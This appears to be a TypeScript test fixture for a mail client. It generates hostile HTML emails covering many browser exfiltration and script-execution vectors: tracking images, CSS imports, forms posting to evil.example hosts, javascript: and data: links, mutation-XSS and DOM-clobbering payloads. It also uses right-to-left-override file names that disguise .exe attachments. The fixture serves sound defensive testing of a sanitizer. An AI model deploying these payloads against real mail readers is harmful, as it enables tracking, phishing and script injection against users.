import { aMail } from './cases.ts';

/** A mail's HTML that wants something of the reader's machine. */
export interface HostileHtml {
  name: string;
  html: string;
  /** Hosts that it would reach, link to or send to, and that the list of its targets has to name. */
  names: string[];
}

const host = (name: string): string => `${name}.evil.example`;
const at = (name: string, path = 'x'): string => `https://${host(name)}/${path}`;

/** What every script in here does, so that a watch hears of it whichever way it came to run. */
const script = `console.log('ran');document.documentElement.dataset.ran='1';alert('ran');top.ran=1`;
const inAttribute = script.replaceAll("'", '&#39;');
const encoded = Buffer.from(`<script>${script}</script>`).toString('base64');

/** One markup for each way out that a browser has. */
const ways: [name: string, markup: string, names?: string[]][] = [
  ['img', `<img src="${at('img')}" alt="" width="1" height="1">`, ['img']],
  ['srcset', `<img srcset="${at('srcset-a')} 1x, ${at('srcset-b')} 2x">`, ['srcset-a']],
  ['picture', `<picture><source srcset="${at('picture')}"><img alt=""></picture>`, ['picture']],
  ['iframe', `<iframe src="${at('iframe')}"></iframe>`, ['iframe']],
  [
    'iframe-srcdoc',
    `<iframe srcdoc="&lt;img src='${at('srcdoc')}'&gt;&lt;script&gt;${inAttribute}&lt;/script&gt;"></iframe>`,
  ],
  ['frameset', `<frameset cols="*"><frame src="${at('frameset')}"></frameset>`],
  ['object', `<object data="${at('object')}"></object><embed src="${at('embed')}">`, ['object', 'embed']],
  [
    'preconnect',
    `<link rel="preconnect" href="https://${host('preconnect')}"><link rel="dns-prefetch" href="//${host('dns')}">`,
  ],
  ['prefetch', `<link rel="prefetch" href="${at('prefetch')}"><link rel="preload" as="image" href="${at('preload')}">`],
  ['stylesheet', `<link rel="stylesheet" href="${at('stylesheet')}">`, ['stylesheet']],
  [
    'style-import',
    `<style>@import url(${at('import')}); @font-face { font-family: f; src: url(${at('font')}) } body { font-family: f }</style>`,
  ],
  [
    'style-attribute',
    `<p style="background: url(${at('style')}); list-style: url('${at('style-list')}')">text</p>`,
    ['style'],
  ],
  [
    'style-over-all',
    `<div style="position: fixed; inset: 0; z-index: 9999; background: white">Your session has ended</div>`,
  ],
  [
    'background',
    `<table background="${at('background')}"><tr><td background="${at('td')}">text</td></tr></table>`,
    ['background', 'td'],
  ],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`],
  [
    'meta-policy',
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><img src="${at('policy')}">`,
  ],
  ['base', `<base href="https://${host('base')}/" target="_top"><img src="x.png"><a href="y">text</a>`],
  [
    'video',
    `<video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio>`,
    ['video', 'poster', 'audio'],
  ],
  [
    'track',
    `<video autoplay><source src="${at('source')}"><track src="${at('track')}" default></video>`,
    ['source', 'track'],
  ],
  [
    'svg',
    `<svg width="9" height="9"><image href="${at('svg')}"/><use href="${at('svg-use')}#x"/><script>${script}</script><a xlink:href="javascript:${inAttribute}"><text y="9">x</text></a></svg>`,
    ['svg'],
  ],
  [
    'svg-animate',
    `<svg><a><animate attributeName="href" values="javascript:${inAttribute}"/><text y="9">x</text></a><set attributeName="onmouseover" to="${inAttribute}"/></svg>`,
  ],
  [
    'svg-foreign',
    `<svg><foreignObject><iframe src="${at('foreign')}"></iframe></foreignObject><style>@import '${at('svg-style')}';</style></svg>`,
  ],
  [
    'svg-data',
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${at('svg-data')}"/></svg>`).toString('base64')}">`,
  ],
  [
    'mathml',
    `<math href="javascript:${inAttribute}"><mi xlink:href="${at('math')}">x</mi><annotation-xml encoding="text/html"><img src="${at('annotation')}" onerror="${inAttribute}"></annotation-xml></math>`,
  ],
  [
    'mutation',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inAttribute}&gt;">`,
  ],
  [
    'mutation-noscript',
    `<noscript><p title="</noscript><img src='${at('noscript')}' onerror='${inAttribute}'>"></noscript>`,
  ],
  ['mutation-comment', `<!--><img src=x onerror="${inAttribute}">--><![CDATA[><img src=x onerror="${inAttribute}">]]>`],
  ['mutation-form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${inAttribute}">`],
  [
    'template',
    `<template><img src="${at('template')}" onerror="${inAttribute}"></template><template shadowrootmode="open"><img src="${at('shadow')}"></template>`,
  ],
  [
    'form',
    `<form action="${at('form')}" method="post" target="_top"><input name="card" autofocus onfocus="${inAttribute}"><button formaction="${at('formaction')}">Pay</button></form>`,
    ['form', 'formaction'],
  ],
  [
    'form-image',
    `<form action="${at('form-image')}"><input type="image" src="${at('input-image')}"></form>`,
    ['form-image', 'input-image'],
  ],
  [
    'isindex',
    `<isindex action="javascript:${inAttribute}"><keygen autofocus onfocus="${inAttribute}"><select autofocus onfocus="${inAttribute}"></select>`,
  ],
  [
    'script',
    `<script>${script}</script><script src="${at('script')}"></script><script type="module">import '${at('module')}'</script>`,
    ['script'],
  ],
  [
    'speculation',
    `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${at('speculation')}"]}]}</script>`,
  ],
  [
    'handlers',
    `<img src="x" onerror="${inAttribute}"><body onload="${inAttribute}"><details open ontoggle="${inAttribute}">x</details><div onanimationstart="${inAttribute}" style="animation: a 1s">x</div>`,
  ],
  ['marquee', `<marquee onstart="${inAttribute}">x</marquee><bgsound src="${at('bgsound')}">`],
  [
    'link-javascript',
    `<a href="javascript:${inAttribute}">one</a> <a href="java&#9;script:${inAttribute}">two</a> <a href=" &#1;javascript:${inAttribute}">three</a>`,
  ],
  [
    'link-data',
    `<a href="data:text/html;base64,${encoded}" target="_top">open</a><iframe src="data:text/html;base64,${encoded}"></iframe>`,
  ],
  [
    'link-top',
    `<a href="${at('top')}" target="_top">away</a><a href="${at('blank')}" target="_blank" ping="${at('ping')}">new</a>`,
    ['top', 'blank'],
  ],
  [
    'link-schemes',
    `<a href="file:///etc/passwd">f</a><a href="app://ashiato/index.html" target="_top">a</a><a href="mailto:x@evil.example">m</a><a href="tel:0312345678">t</a><a href="intent://${host('intent')}/#Intent;end">i</a>`,
  ],
  [
    'map',
    `<img src="cid:none" usemap="#m"><map name="m"><area shape="default" href="${at('area')}" target="_top"></map>`,
    ['area'],
  ],
  [
    'protocol-relative',
    `<img src="//${host('relative')}/x"><img src="\\\\${host('backslash')}\\x"><img src="http:${host('colon')}/x">`,
    ['relative'],
  ],
  [
    'loopback',
    `<img src="http://127.0.0.1:1/x"><img src="http://[::1]/x"><img src="http://2130706433/x"><img src="/api/jobs"><img src="./api/replies?page=mail">`,
  ],
  ['unc', `<img src="file://${host('unc')}/share/x.png"><img src="\\\\${host('smb')}\\share">`],
  [
    'clobber',
    `<form id="documentElement"><input name="dataset"></form><a id="parent"></a><a id="top" href="${at('clobber')}"></a><img name="cookie">`,
    ['clobber'],
  ],
  [
    'vml',
    `<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="${at('vml')}"/></v:rect><!--[if mso]><img src="${at('mso')}"><![endif]-->`,
  ],
  [
    'old-attributes',
    `<img lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}" longdesc="${at('longdesc')}"><blockquote cite="${at('cite')}">q</blockquote>`,
  ],
  [
    'portal',
    `<portal src="${at('portal')}"></portal><fencedframe src="${at('fenced')}"></fencedframe><webview src="${at('webview')}"></webview>`,
  ],
  [
    'manifest',
    `<html manifest="${at('manifest')}"><head profile="${at('profile')}"></head><body background="${at('body')}"><p>text</p></body></html>`,
  ],
  [
    'import-map',
    `<script type="importmap">{"imports":{"a":"${at('importmap')}"}}</script><link rel="modulepreload" href="${at('modulepreload')}"><link rel="import" href="${at('htmlimport')}">`,
  ],
  ['nested', `${'<div>'.repeat(2000)}<img src="${at('nested')}">${'</div>'.repeat(2000)}`],
  ['null-bytes', `<scr\0ipt>${script}</scr\0ipt><img sr\0c="${at('null')}" onerr\0or="${inAttribute}">`],
  ['encoded-tags', `&lt;script&gt;${script}&lt;/script&gt; &#60;img src=x onerror=${inAttribute}&#62;`],
  [
    'custom',
    `<x-evil onclick="${inAttribute}" tabindex="1" autofocus onfocus="${inAttribute}">x</x-evil><xmp><img src="${at('xmp')}"></xmp><plaintext><img src="${at('plaintext')}">`,
  ],
];

/** All of them, each with words of its own that stay when everything else is gone. */
export const hostileHtml = (): HostileHtml[] =>
  ways.map(([name, markup, names = []]) => ({
    name,
    html: `<!doctype html><html><body><p>words of ${name}</p>${markup}</body></html>`,
    names: names.map(host),
  }));

/** A mail that carries it, with a subject and a file name that turn the direction of writing. */
export const hostileMail = ({ name, html }: HostileHtml, n: number): string =>
  aMail(
    {
      From: `"Misaki \u202Emoc.knab" <misaki${n}@dates.example>`,
      To: 'decoy@reader.example',
      Date: new Date(1517800000000 + n * 60_000).toUTCString(),
      'Message-ID': `<${name}@dates.example>`,
      Subject: `振込 ${name} \u202Egnp.exe\u202C`,
      'MIME-Version': '1.0',
      'Content-Type': 'multipart/mixed; boundary="edge"',
    },
    `--edge\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${folded(html)}\r\n` +
      `--edge\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="invoice\u202Efdp.exe"\r\n\r\nMZ\r\n--edge--\r\n`,
  );

const folded = (text: string): string =>
  (
    Buffer.from(text)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');
